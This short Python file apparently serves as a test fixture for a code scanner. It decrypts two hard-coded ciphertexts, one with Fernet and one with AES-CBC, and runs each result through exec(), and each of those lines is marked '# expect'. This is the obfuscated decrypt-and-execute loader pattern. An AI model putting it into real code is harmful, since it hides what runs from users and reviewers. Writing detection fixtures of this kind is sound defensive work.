from cryptography.fernet import Fernet
from Crypto.Cipher import AES

exec(Fernet(b"AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8=").decrypt(b"gAAAAABfXhAAAAECAwQFBgcICQoLDA0ODy3ohT7C9JNcvZQu7sVgk7YFbYKiHK49NrDDHUTVvCcmEKSlCKS0tLJ-yPf-uMzjBA==").decode())  # expect

cipher = AES.new(b"0123456789abcdef", AES.MODE_CBC, b"0123456789abcdef")
plain = cipher.decrypt(bytes.fromhex("2c5a217af1c6ac89af7f86aa4ffacfe4"))
exec(plain)  # expect
